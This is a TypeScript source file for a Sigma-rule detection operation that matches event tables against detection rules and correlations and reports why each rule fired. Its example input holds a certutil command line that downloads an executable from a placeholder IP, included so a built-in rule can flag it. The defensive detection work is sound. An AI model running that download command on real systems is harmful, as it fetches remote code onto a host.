import { z } from 'zod';
import { wrongField } from '../../shared/kit/fault.ts';
import { operation } from '../../shared/kit/operation.ts';
import { builtInRules } from '../../shared/sigma/built-in.ts';
import { candidates } from '../../shared/sigma/candidates.ts';
import { isOfCategory } from '../../shared/sigma/category.ts';
import { rowCells } from '../../shared/sigma/cell.ts';
import { Correlator } from '../../shared/sigma/correlator.ts';
import { readRules } from '../../shared/sigma/rule.ts';
import { type ReadyRule, ruleSet, type SigmaSource } from '../../shared/sigma/ruleset.ts';
import { rulesIn } from '../../shared/sigma/sources.ts';
import { batches, tableInput } from '../../shared/tables/source.ts';
import { isoOf, timeOf } from '../../shared/tables/time.ts';
import { inPieces } from '../../shared/tables/work.ts';

const source = (what: string) => z.string().max(100).optional().describe(`Use only rules for this ${what}, and rules that name none.`);
/** Columns that tables have for the time of an event, in the order in which they are tried. */
const timeColumns = ['TimeGenerated', 'Timestamp', 'UtcTime', '@timestamp', 'EventTime', 'TimeCreated', 'SystemTime', 'timestamp', 'time'];
const named = 20;

const found = {
  rule: z.string(),
  rule_id: z.string().nullable(),
  level: z.string(),
  tags: z.array(z.string()),
  description: z.string().nullable(),
};

export default operation({
  name: 'detect-sigma-matches',
  summary: 'Match events against Sigma rules and correlations, and say which rule and why.',
  entities: ['process', 'host', 'account', 'file'],
  input: z.strictObject({
    ...tableInput('table of events'),
    rules: z.string().max(500_000).optional().describe('Own rules, correlations and filters as YAML, one document each.'),
    folder: z.string().min(1).max(500).optional().describe('Own rules in every .yml or .yaml blob whose name starts so.'),
    builtIn: z.boolean().default(true).describe('Also use the rules that come with Gumshoe, among them those on the abuse of more than 200 known programs.'),
    product: source('product, such as windows or linux'),
    category: source('category, such as process_creation or ps_script'),
    service: source('service, such as sudo or auditd'),
    columns: z.record(z.string(), z.string()).default({})
      .describe('Field of the rules to column of the table, such as Image to ProcessFile. The usual columns of Windows, Defender and Linux tables are found without.'),
    placeholders: z.record(z.string().max(100), z.array(z.string().max(1000)).max(2000)).default({})
      .describe('What stands for %name% where a rule says "expand": name to values, such as Administrators to names of accounts.'),
    timeColumn: z.string().min(1).optional().describe('Column with the time, which correlations need. Default: TimeGenerated, Timestamp, UtcTime or another usual one.'),
  }),
  sections: {
    matches: z.object({
      row: z.int().describe('Place in the table, from 0.'),
      ...found,
      selections: z.array(z.string()).describe('Selections of the rule that hold.'),
      why: z.array(z.string()).describe('What matched: selection, field, modifiers and the value of the rule.'),
    }),
    correlations: z.object({
      ...found,
      type: z.string().describe('event_count, value_count, temporal and so on.'),
      group: z.array(z.string()).describe('Fields that the events share, as field=value.'),
      start: z.string().describe('First event, UTC.'),
      end: z.string(),
      count: z.number().describe('What the correlation counts, at its most: events, values or rules.'),
      rows: z.array(z.int()).describe('Places of the events in the table, at most 1000.'),
      why: z.array(z.string()).describe('What was counted and what the rule asks for, then each rule that took part.'),
    }),
  },
  limits: { rows: 100_000, seconds: 120, bytes: 64_000_000 },
  uses: ['blobs', 'clock'],
  examples: [
    {
      given: { rows: [{ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil.exe -urlcache -f http://198.51.100.7/a.exe a.exe' }], product: 'windows' },
      rows: [{ row: 0, rule_id: 'gumshoe-certutil', level: 'high', selections: ['tool', 'action'] }],
    },
  ],
  async *run(input, ports, call) {
    const flaws: string[] = [];
    const flawed = (about: string, detail: string): void => {
      flaws.push(detail);
      call.problem({ code: 'bad-rule', about, detail });
    };
    const own: SigmaSource[] = readRules(input.rules ?? '', 'rules', ({ message }) => flawed('rules', message)).map((document) => ({ about: 'rules', document }));
    const given = own.length > 0 || flaws.length > 0;
    const shipped = input.builtIn ? builtInRules() : [];
    const kept = input.folder === undefined ? [] : await rulesIn(input.folder, ports.blobs, flawed);
    const { rules, correlations } = ruleSet([...shipped, ...kept, ...own], { source: input, placeholders: input.placeholders, flawed });
    const usable = new Set<unknown>([...rules, ...correlations].map(({ rule }) => rule));
    // One bad rule of many is a problem; when nothing of the caller's text can be used, the call is refused.
    if (flaws.length > 0 && given && !own.some(({ document: { kind, rule } }) => kind === 'filter' || usable.has(rule))) throw wrongField('rules', flaws.at(-1)!.replace(/^rules: /, ''));
    if (rules.length === 0) call.problem({ code: 'no-rules', about: 'rules', detail: 'No rule is left to match: nothing was checked.' });
    const names = new Map(Object.entries(input.columns));
    const correlator = new Correlator(correlations, flawed);
    const callers = new Set<unknown>([...kept, ...own].map(({ document: { rule } }) => rule));
    const apt = candidates(rules);
    const unseen = new Set(rules.flatMap(({ fields }) => fields));
    const kinds = new Set<string | undefined>();
    const times = input.timeColumn === undefined ? timeColumns : [input.timeColumn];
    let place = 0;
    let timeless = 0;
    for await (const batch of inPieces(batches(input, ports, call), { call, clock: ports.clock }))
      for (const line of batch) {
        const row = place++;
        const cells = rowCells(line, names);
        kinds.add(cells.categories());
        for (const field of unseen) if (cells.of(field)) unseen.delete(field);
        for (const ready of apt(cells)) {
          const hit = ready.match(cells);
          if (!hit) continue;
          if (correlator.wants(ready)) {
            const time = timeOf(line[times.find((column) => Object.hasOwn(line, column)) ?? '']);
            if (Number.isNaN(time)) timeless += 1;
            else correlator.take(ready, row, time, cells);
          }
          if (ready.alone) yield ['matches', { row, ...headOf(ready.rule), ...hit }] as const;
        }
      }
    for (const { rule, group, start, end, count, rows, why } of correlator.hits())
      yield ['correlations', { ...headOf(rule), type: rule.correlation.type, group, start: isoOf(start), end: isoOf(end), count, rows, why }] as const;
    if (timeless > 0)
      call.problem({ code: 'bad-time', about: 'timeColumn', detail: `${timeless} matches have no time that can be read and were not correlated. Name the column in timeColumn.` });
    // Of our own rules many are for other tables. That is worth a word only when nothing is left.
    const isMet = (category: string | null | undefined): boolean => [...kinds].some((kind) => isOfCategory(category, kind));
    const idle = rules.filter(({ rule, fields }) => (fields.length > 0 && fields.every((field) => unseen.has(field))) || !isMet(rule.logsource.category));
    const missed = idle.length === rules.length ? idle : idle.filter(({ rule }) => callers.has(rule));
    if (place > 0 && missed.length > 0) call.problem({ code: 'rules-not-applicable', about: 'columns', detail: lacking(missed, rules.length, unseen) });
  },
});

const headOf = ({ title, id, level, tags, description }: { title: string; id?: string | undefined; level: string; tags: string[]; description?: string | undefined }) =>
  ({ rule: title, rule_id: id ?? null, level, tags, description: description ?? null });

const lacking = (missed: readonly ReadyRule[], all: number, unseen: ReadonlySet<string>): string => {
  const fieldless = missed.filter(({ fields }) => fields.length > 0 && fields.every((field) => unseen.has(field)));
  const fields = [...new Set(fieldless.flatMap((rule) => rule.fields))];
  const categories = [...new Set(missed.flatMap((rule) => (fieldless.includes(rule) ? [] : [rule.rule.logsource.category])))];
  const some = `${fields.slice(0, named).join(', ')}${fields.length > named ? ' and more' : ''}`;
  const why = [...(fields.length > 0 ? [`none of their fields: ${some}`] : []), ...(categories.length > 0 ? [`no event of their category: ${categories.join(', ')}`] : [])];
  return `${missed.length} of ${all} rules could not match, because the table has ${why.join(', or ')}. ` +
    'Say in columns what they are called here, or narrow the rules by product, category or service.';
};
